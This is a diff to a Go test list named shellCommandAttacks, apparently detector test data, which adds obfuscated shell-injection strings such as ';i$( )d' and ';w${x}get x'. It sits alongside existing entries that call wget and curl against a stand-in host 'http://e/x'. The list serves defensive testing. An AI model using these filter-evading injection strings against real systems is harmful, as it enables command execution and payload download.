@@ -251,7 +251,7 @@ var shellCommandAttacks = []string{"| id", "; id", ";id", "&& id", "`id`", "x|id
 	`$($'\x69\x64')`,
 	// more expansions to nothing (a sixth fresh-eyes attack's B14)
 	"x;w$1get http://e/x", "x;wh$9oami", "x;c$2url http://e/x", `x;w$""get http://e/x`, "x;c$''url http://e/x", "x;i$'d'", "x;$'i'd",
-	"x;w`true`get http://e/x", "x;w``get http://e/x", "x;wh$(true)oami", "x;i$(:)d", "x;i`:`d"}
+	"x;w`true`get http://e/x", "x;w``get http://e/x", "x;wh$(true)oami", "x;i$(:)d", "x;i`:`d", ";i$( )d", ";w${x}get x"}
 
 // shellCommandBenign is ordinary text near 210151's attacks: the fifth
 // fresh-eyes attack's F12 (Markdown tables, inline code, line lists,
